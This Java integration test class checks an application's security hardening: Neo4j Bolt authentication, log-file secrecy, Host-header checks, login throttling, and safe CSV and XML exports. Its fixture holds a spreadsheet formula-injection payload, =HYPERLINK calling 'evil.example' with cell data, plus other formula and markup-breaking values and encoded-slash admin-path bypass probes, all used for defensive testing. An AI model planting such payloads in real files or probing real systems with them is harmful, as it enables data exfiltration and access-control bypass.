package org.respnet.system;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;

import javax.xml.parsers.DocumentBuilderFactory;

import org.junit.jupiter.api.Test;
import org.neo4j.driver.AuthTokens;
import org.neo4j.driver.Driver;
import org.neo4j.driver.GraphDatabase;
import org.neo4j.driver.exceptions.AuthenticationException;
import org.respnet.HttpJson;
import org.respnet.RespNetIntegrationTest;
import org.respnet.TestUsers;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.neo4j.autoconfigure.Neo4jConnectionDetails;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.TestPropertySource;

/** Issue 15: Bolt locked, hosts, login throttling, exports and unit pages for hostile names. */
@RespNetIntegrationTest
// Imports hostile names: a database of its own, so no other test reads them.
@TestPropertySource(properties = "spring.application.name=respnet-hardening")
class HardeningIT {

    private static final String HOSTILE_NOTICE = """
            测政办发〔2025〕9号
            测试市人民政府办公室关于分解落实《政府工作报告》的通知

            测试市人民政府各部门：

            现将《政府工作报告》确定的工作任务进行责任分解。

            《政府工作报告》重点工作责任分解
            一、危险的名字

            1.=HYPERLINK("http://evil.example/?d="&E2,"点此查看详情")。（责任领导：张"三<b>；牵头单位：市甲\\乙局、市百分之100%局；责任单位：市<丙>局。）

            2.+1+2 与 -3 和 @SUM(A1) 任务。（责任领导：李四；牵头单位：市甲\\乙局。）
            """;

    @LocalServerPort
    int port;

    @Autowired
    Neo4jConnectionDetails bolt;

    @Autowired
    Driver driver;

    @Test
    void boltRefusesAConnectionWithoutCredentials() {
        try (Driver none = GraphDatabase.driver(bolt.getUri(), AuthTokens.none())) {
            assertThatThrownBy(none::verifyConnectivity).isInstanceOf(AuthenticationException.class)
                    .hasMessageContaining("scheme 'none' is only allowed when auth is disabled");
        }
        try (Driver wrong = GraphDatabase.driver(bolt.getUri(), AuthTokens.basic("neo4j", "neo4j"))) {
            assertThatThrownBy(wrong::verifyConnectivity).isInstanceOf(AuthenticationException.class);
        }
        assertThat(bolt.getUri().getHost()).isEqualTo("127.0.0.1");
    }

    /**
     * Issue 25, finding 4: any local web page can reach Bolt over WebSocket, and three wrong passwords used to lock
     * the {@code neo4j} user, and with it the application's own new connections. Failed logins lock nobody now.
     */
    @Test
    void wrongBoltPasswordsDoNotLockTheApplicationOut() throws Exception {
        for (int attempt = 0; attempt < 10; attempt++) {
            try (Driver wrong = GraphDatabase.driver(bolt.getUri(), AuthTokens.basic("neo4j", "guess-" + attempt))) {
                assertThatThrownBy(wrong::verifyConnectivity).isInstanceOf(AuthenticationException.class)
                        .hasMessageNotContaining("too many");
            }
        }
        // A connection made now, as the application's pool makes one, logs in.
        try (Driver fresh = GraphDatabase.driver(bolt.getUri(), bolt.getAuthToken())) {
            fresh.verifyConnectivity();
        }
        assertThat(new HttpJson(port).get("/api/summary").status()).isEqualTo(200);
    }

    /** A system property as {@code java -Drespnet.security.admin-password=…} would set one; set before the server starts. */
    private static final String SECRET = "hardening-secret-" + System.nanoTime();

    static {
        System.setProperty("respnet.hardening.probe", SECRET);
    }

    /**
     * Issue 25, finding 7: data/logs/debug.log was world-readable and began with the JVM's command line and
     * system properties, an admin password or bcrypt hashes given as arguments among them.
     */
    @Test
    void neo4jDebugLogIsOwnerOnlyAndHoldsNoCommandLineOrSystemProperties(
            @Autowired EmbeddedNeo4jProperties properties) throws Exception {
        Path logs = properties.dataDir().toAbsolutePath().resolve("logs");
        Path debugLog = logs.resolve("debug.log");
        assertThat(debugLog).exists();

        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(logs))).isEqualTo("rwx------");
        String log = Files.readString(debugLog);
        assertThat(log).contains("[system/") // the log is written …
                .doesNotContain(SECRET, "sun.java.command", "[classpath]"); // … without secrets
    }

    @Test
    void boltPasswordIsKeptOwnerReadableOnly(@Autowired EmbeddedNeo4jProperties properties) throws Exception {
        Path file = properties.passwordFile();
        assertThat(file).exists();
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file))).isEqualTo("rw-------");
        String password = Files.readString(file).strip();
        assertThat(password).hasSizeGreaterThanOrEqualTo(20);
        try (Driver driver = GraphDatabase.driver(bolt.getUri(), AuthTokens.basic("neo4j", password))) {
            driver.verifyConnectivity();
        }
    }

    @Test
    void answersOnlyConfiguredHostNames() throws Exception {
        assertThat(rawGet("evil.example")).startsWith("HTTP/1.1 421");
        assertThat(rawGet("evil.example:" + port)).startsWith("HTTP/1.1 421");
        assertThat(rawGet("localhost:" + port)).startsWith("HTTP/1.1 200");
        assertThat(rawGet("127.0.0.1:" + port)).startsWith("HTTP/1.1 200");
    }

    private String rawGet(String host) throws Exception {
        try (Socket socket = new Socket("127.0.0.1", port)) {
            OutputStream out = socket.getOutputStream();
            out.write(("GET /api/summary HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            out.flush();
            InputStream in = socket.getInputStream();
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    @Test
    void throttlesFailedLoginsOfAnAccount() {
        HttpJson mallory = new HttpJson(port).as("mallory", "guess");
        for (int i = 0; i < 5; i++) {
            assertThat(mallory.get("/api/session").status()).isEqualTo(401);
        }
        var locked = HttpJson.send(mallory.request("/api/session").GET().build());
        assertThat(locked.status()).isEqualTo(429);
        assertThat(locked.body().get("reason").asString()).isEqualTo("login-locked");
    }

    @Test
    void exportsHostileNamesAsInertCellsAndValidXmlAndOpensTheirPages() throws Exception {
        HttpJson editor = new HttpJson(port).as("editor", TestUsers.EDITOR_PASSWORD);
        HttpJson.Reply imported = editor.post("/api/documents", "text/plain; charset=UTF-8",
                HOSTILE_NOTICE.getBytes(StandardCharsets.UTF_8));
        assertThat(imported.status()).as(imported.raw()).isEqualTo(201);

        String csv = new HttpJson(port).get("/api/tasks.csv?city=" + HttpJson.enc("测试")).raw();
        assertThat(csv).contains("\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK").contains("\"'+1+2");

        for (String format : new String[] {"graphml", "gexf"}) {
            HttpJson.Reply export = new HttpJson(port).get("/api/export/graph." + format);
            assertThat(export.status()).isEqualTo(200);
            DocumentBuilderFactory strict = DocumentBuilderFactory.newInstance();
            strict.setNamespaceAware(true);
            var document = strict.newDocumentBuilder().parse(new ByteArrayInputStream(
                    export.raw().getBytes(StandardCharsets.UTF_8)));
            assertThat(document.getDocumentElement().getTextContent() + attributes(document.getDocumentElement()))
                    .as(format).contains("市<丙>局").contains("张\"三<b>");
        }

        // Issue 25, finding 7: a name holding "/" (from reference data; the notice reader splits at "/") answered
        // Tomcat's 400 page.
        try (var session = driver.session()) {
            session.run("MATCH (u:Unit {name: $from}) CREATE (v:Unit) SET v = u {.*, name: $to, key: u.city + '/' + $to}", java.util.Map.of("from", "市甲\\乙局", "to", "市丁/戊局")).consume();
        }
        for (String name : new String[] {"市甲\\乙局", "市百分之100%局", "市丁/戊局"}) {
            HttpJson.Reply page = new HttpJson(port).get("/units/" + HttpJson.enc(name));
            assertThat(page.status()).as(name).isEqualTo(200);
            HttpJson.Reply api = new HttpJson(port).get("/api/units/" + HttpJson.enc(name));
            assertThat(api.status()).as(name + " " + api.raw()).isEqualTo(200);
            assertThat(api.raw()).contains(name.replace("\\", "\\\\"));
        }
        // An encoded slash stays inside its segment for the security rules too: no way around /api/admin/**.
        assertThat(new HttpJson(port).get("/api%2Fadmin/audit").status()).isIn(403, 404);
        assertThat(new HttpJson(port).get("/api/admin%2Faudit").status()).isIn(401, 403, 404);
    }

    private static String attributes(org.w3c.dom.Element element) {
        StringBuilder all = new StringBuilder();
        var nodes = element.getElementsByTagName("*");
        for (int i = 0; i < nodes.getLength(); i++) {
            var attrs = nodes.item(i).getAttributes();
            for (int j = 0; j < attrs.getLength(); j++) {
                all.append(attrs.item(j).getNodeValue()).append('\n');
            }
        }
        return all.toString();
    }
}
